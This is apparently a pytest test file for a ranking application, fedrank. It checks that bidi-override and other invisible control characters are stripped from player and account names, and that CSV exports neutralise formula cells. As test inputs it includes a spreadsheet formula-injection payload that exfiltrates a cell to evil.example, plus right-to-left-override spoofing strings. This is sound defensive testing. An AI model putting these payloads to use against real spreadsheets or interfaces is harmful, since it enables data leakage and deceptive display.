"""Invisible controls out of names (in) and out of every rendering (out); CSV cells inert."""

from __future__ import annotations

import csv
import io
import sys
import unicodedata
from dataclasses import replace
from decimal import Decimal

import pytest

from fedrank.handlers.context import IncomingFile, Services
from fedrank.handlers.dispatch import dispatch
from fedrank.handlers.federation.registry.fileformat import parse_registry, write_csv
from fedrank.handlers.federation.registry.importing import prepare_import, write_import
from fedrank.handlers.publication.announcements import Line, list_csv
from fedrank.handlers.systems import SystemRegistry
from fedrank.handlers.wording.safetext import (
    INVISIBLE,
    KEPT,
    clean_name,
    csv_bytes,
    inert,
    uncell,
    visible,
)
from fedrank.storage.database import Database
from tests.handlers.fake_adapter import FakeAdapter
from tests.helpers import NOW, make_director, seed_federation, user

RLO = "\u202e"  # right-to-left override: "\u202eabc" shows as "cba", and so does what follows
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
OTHER = "\u200b\u200d\u2060\ufeff\u00ad\x00\x07\x1b\x7f\x85\U000e0041"


def test_invisible_controls_are_taken_out_and_white_space_kept() -> None:
    assert visible(f"{BIDI}Anna{OTHER} Ivanova") == "Anna Ivanova"
    assert visible("line 1\n\tline 2\r\n") == "line 1\n\tline 2\r\n"
    assert visible("Олександр Савчук 李明") == "Олександр Савчук 李明"
    assert visible("plain ascii") == "plain ascii"
    assert visible("a\x00b\x1bc") == "abc"
    assert visible("\ud800lone surrogate") == "lone surrogate"


def test_every_invisible_character_of_this_unicode_is_taken_out() -> None:
    """The ranges written out in safetext are exactly unicodedata's Cc, Cf and Cs (a newer
    Unicode with a new format character fails here until the ranges have it)."""
    everything = "".join(map(chr, range(sys.maxunicode + 1)))
    invisible = "".join(
        ch for ch in everything if unicodedata.category(ch) in INVISIBLE and ch not in KEPT
    )
    assert visible(invisible) == ""  # each one is taken out
    assert len(visible(everything)) == len(everything) - len(invisible)  # and nothing else


def test_a_name_has_no_invisible_character_and_single_spaces() -> None:
    assert clean_name(f"  {RLO}Eve\u2028\tthe\u00a0 Great{BIDI} ") == "Eve the Great"
    assert clean_name(BIDI) == ""


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x")', "+1", "-2.5", "@SUM(A1)", "\tx"])
def test_formula_starts_are_written_inert_and_read_back(cell: str) -> None:
    assert inert(cell) == "'" + cell
    assert uncell(inert(cell)) == cell


def test_every_csv_fedrank_writes_has_inert_cells() -> None:
    """On main the list CSV wrote a player named ``=HYPERLINK("…")`` as a live formula."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    lines = [
        Line(1, "RMF-001", evil, 1, Decimal("950.5"), "1 dan"),
        Line(2, "RMF-002", f"@cmd{RLO}", 2, Decimal("-3"), None),
    ]
    rows = list(csv.reader(io.StringIO(list_csv(lines, "en").decode("utf-8-sig"))))
    assert rows[1:] == [
        ["1", "RMF-001", "'" + evil, "950.5", "1 dan"],
        ["2", "RMF-002", "'@cmd", "'-3", ""],
    ]
    registry = write_csv(["id", "name"], [["RMF-003", "+7 (495) 1234567"]])
    assert registry == csv_bytes(["id", "name"], [["RMF-003", "+7 (495) 1234567"]])
    assert registry.decode("utf-8-sig").splitlines()[1] == "RMF-003,'+7 (495) 1234567"


def test_registry_files_bring_no_invisible_character() -> None:
    content = f"id,name,club\nRMF-009,{RLO}Eve{BIDI} Adams,Club{OTHER}\n".encode()
    file = parse_registry("players.csv", content, set())
    assert file.problems == []
    [line] = file.lines
    assert (line.name, line.club) == ("Eve Adams", "Club")


async def _names(db: Database) -> dict[str, str]:
    async with db.read() as repos:
        fed = await repos.federations.by_code("RMF")
        assert fed is not None
        return {p.federation_player_id: p.name for p in await repos.players.of_federation(fed.id)}


async def test_names_are_cleaned_on_the_way_in(services: Services, db: Database) -> None:
    await seed_federation(db)
    await make_director(db, "boss")
    # An account's display name from the platform.
    await dispatch(services, user("mallory", f"{RLO}yrallaM"), "/start")
    async with db.read() as repos:
        account = await repos.accounts.by_platform("console", "mallory")
        assert account is not None and account.display_name == "yrallaM"
    # /playeradd
    added = await dispatch(services, user("boss"), f'/playeradd RMF name="{RLO}Kate{BIDI} Bell"')
    assert "Kate Bell" in added.plain, added.plain
    # A registry import.
    async with db.transaction() as repos:
        plan = await prepare_import(
            repos, services.systems, "RMF", "p.csv", f"id,name\nRMF-077,Li{OTHER} Na\n".encode()
        )
        await write_import(repos, plan, now=NOW, account_id=None)
    names = await _names(db)
    assert "Li Na" in names.values() and "Kate Bell" in names.values()
    assert all(visible(n) == n for n in names.values())


async def test_names_in_a_submission_are_cleaned(db: Database, services: Services) -> None:
    await seed_federation(db)
    await make_director(db, "boss")
    fake = Services(db=db, clock=services.clock, systems=SystemRegistry([FakeAdapter()]))
    text = f"spring{RLO}-cup 2026-11-10\nRMF-002 1\n"
    ctx = replace(user("boss"), attachment=IncomingFile("cup.txt", text.encode()))
    preview = await dispatch(fake, ctx, "/submit rmf-mcr")
    assert "Preview: Spring-Cup" in preview.plain, preview.plain
    assert RLO not in preview.plain
